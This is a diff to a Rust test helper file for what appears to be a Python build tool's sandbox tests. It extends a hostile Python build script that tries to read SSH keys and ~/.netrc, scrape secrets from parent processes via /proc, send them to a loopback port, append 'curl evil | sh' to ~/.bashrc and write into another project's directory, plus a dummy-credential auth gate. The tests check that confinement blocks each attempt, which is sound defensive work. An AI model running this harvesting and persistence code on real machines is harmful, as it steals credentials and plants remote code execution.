@@ -153,8 +153,12 @@ pub fn py_evil_build(marker: &str) -> String {
 /// Python build code for the confinement tests: tries to read a fake
 /// `~/.ssh/id_rsa`, send it to the loopback port in `~/.evil-port` straight
 /// (a socket, no proxy) and through urllib (the proxy variables), write
-/// `~/outside-marker`, append to `~/.bashrc` and write into its temp dir;
-/// each attempt's outcome (`ok` or the error) goes into marker `name` as
+/// `~/outside-marker`, append to `~/.bashrc`, write into the directory
+/// named in `~/.victim-dir` (when there is one: another project's
+/// virtualenv) and into its temp dir, read `~/.netrc`; what it could see
+/// of secrets (its environment, its ancestors' command lines and environments,
+/// the files listed in `~/.secret-paths`) goes into
+/// `seen`; each attempt's outcome (`ok` or the error) goes into marker `name` as
 /// JSON. It never fails the build itself.
 pub fn py_confined_build(name: &str) -> String {
     r#"import os as _o, json as _j, socket as _s, tempfile as _t, urllib.request as _u
@@ -179,6 +183,33 @@ _try('proxied', lambda: _u.urlopen('http://127.0.0.1:%d/proxied' % _port, data=b
 _try('outside', lambda: open(_o.path.join(_h, 'outside-marker'), 'w').write('x'))
 _try('bashrc', lambda: open(_o.path.join(_h, '.bashrc'), 'a').write('curl evil | sh\n'))
 _try('tmp', lambda: open(_o.path.join(_t.gettempdir(), 'tmp-marker'), 'w').write('x'))
+_try('netrc', lambda: open(_o.path.join(_h, '.netrc')).read())
+def _seen():
+    s = ' '.join(_o.environ.values())
+    p = _o.getppid()
+    for _ in range(12):
+        try:
+            s += ' ' + open('/proc/%d/cmdline' % p, 'rb').read().decode('utf-8', 'replace')
+            try:
+                s += ' ' + open('/proc/%d/environ' % p, 'rb').read().decode('utf-8', 'replace')
+            except Exception:
+                pass
+            p = int(open('/proc/%d/stat' % p).read().rsplit(')', 1)[1].split()[1])
+        except Exception:
+            break
+    return s
+_r['seen'] = _seen()
+_sp = _o.path.join(_h, '.secret-paths')
+if _o.path.exists(_sp):
+    for _p in open(_sp).read().split('\n'):
+        if _p:
+            try:
+                _r['seen'] += ' ' + open(_p).read()
+            except Exception:
+                pass
+_v = _o.path.join(_h, '.victim-dir')
+if _o.path.exists(_v):
+    _try('victim', lambda: open(_o.path.join(open(_v).read().strip(), 'pwned'), 'w').write('x'))
 _d = _o.environ.get(ENV) or _h
 with open(_o.path.join(_d, NAME), 'w') as _f:
     _f.write(_j.dumps(_r))
@@ -218,7 +249,9 @@ pub fn assert_py_confined(
 ) {
     let report = report.unwrap_or_else(|| panic!("{what}: the approved build did not run"));
     let r: serde_json::Value = serde_json::from_str(&report).unwrap();
-    for k in ["ssh", "direct", "proxied", "outside", "bashrc"] {
+    for k in [
+        "ssh", "netrc", "direct", "proxied", "outside", "bashrc", "victim",
+    ] {
         assert_ne!(r[k], "ok", "{what}: `{k}` was allowed: {r}");
     }
     assert_eq!(r["tmp"], "ok", "{what}: its temp dir: {r}");
@@ -316,4 +349,96 @@ fn split_time(t: SystemTime) -> (String, String, u32) {
         format!("{:02}:{:02}:{:02}", rem / 3600, rem / 60 % 60, rem % 60),
         d.subsec_nanos(),
     )
+}
+
+// ---------------------------------------------------------------------------
+// A private index that needs credentials.
+
+pub const INDEX_USER: &str = "pw-user";
+pub const INDEX_SECRET: &str = "s3cret-index-pw";
+
+/// A loopback gate in front of the shared registry that answers `401`
+/// unless the request has `INDEX_USER:INDEX_SECRET` basic credentials;
+/// counts the requests it let through.
+pub struct AuthGate {
+    pub port: u16,
+    pub passed: std::sync::Arc<std::sync::atomic::AtomicUsize>,
+}
+
+impl AuthGate {
+    pub fn start() -> AuthGate {
+        use std::io::{Read, Write};
+        use std::sync::atomic::Ordering;
+        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+        let port = l.local_addr().unwrap().port();
+        let upstream = shared()
+            .pypi_index_url()
+            .trim_start_matches("http://")
+            .split('/')
+            .next()
+            .unwrap()
+            .to_string();
+        let passed = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
+        let count = passed.clone();
+        let want = {
+            use base64::Engine;
+            base64::engine::general_purpose::STANDARD.encode(format!("{INDEX_USER}:{INDEX_SECRET}"))
+        };
+        std::thread::spawn(move || {
+            for c in l.incoming() {
+                let Ok(mut c) = c else { continue };
+                let (upstream, want, count) = (upstream.clone(), want.clone(), count.clone());
+                std::thread::spawn(move || {
+                    let mut head = Vec::new();
+                    let mut b = [0u8; 1];
+                    while !head.ends_with(b"\r\n\r\n") && head.len() < 65536 {
+                        if c.read(&mut b).unwrap_or(0) == 0 {
+                            return;
+                        }
+                        head.push(b[0]);
+                    }
+                    let text = String::from_utf8_lossy(&head).into_owned();
+                    let ok = text.lines().any(|l| {
+                        l.split_once(':').is_some_and(|(k, v)| {
+                            k.eq_ignore_ascii_case("authorization")
+                                && v.trim() == format!("Basic {want}")
+                        })
+                    });
+                    if !ok {
+                        let _ = c.write_all(
+                            b"HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"pw\"\r\n\
+                              Content-Length: 0\r\nConnection: close\r\n\r\n",
+                        );
+                        return;
+                    }
+                    count.fetch_add(1, Ordering::SeqCst);
+                    let mut lines: Vec<&str> = text
+                        .split("\r\n")
+                        .filter(|l| !l.is_empty())
+                        .filter(|l| {
+                            !l.to_ascii_lowercase().starts_with("connection:")
+                                && !l.to_ascii_lowercase().starts_with("keep-alive:")
+                        })
+                        .collect();
+                    lines.push("Connection: close");
+                    let Ok(mut u) = std::net::TcpStream::connect(&upstream) else {
+                        return;
+                    };
+                    let _ = u.write_all(format!("{}\r\n\r\n", lines.join("\r\n")).as_bytes());
+                    let _ = std::io::copy(&mut u, &mut c);
+                });
+            }
+        });
+        AuthGate { port, passed }
+    }
+
+    /// The index URL through the gate.
+    pub fn index(&self) -> String {
+        format!("http://127.0.0.1:{}/pypi/simple/", self.port)
+    }
+}
+
+/// A `~/.netrc` with the gate's credentials.
+pub fn auth_netrc() -> String {
+    format!("machine 127.0.0.1 login {INDEX_USER} password {INDEX_SECRET}\n")
 }
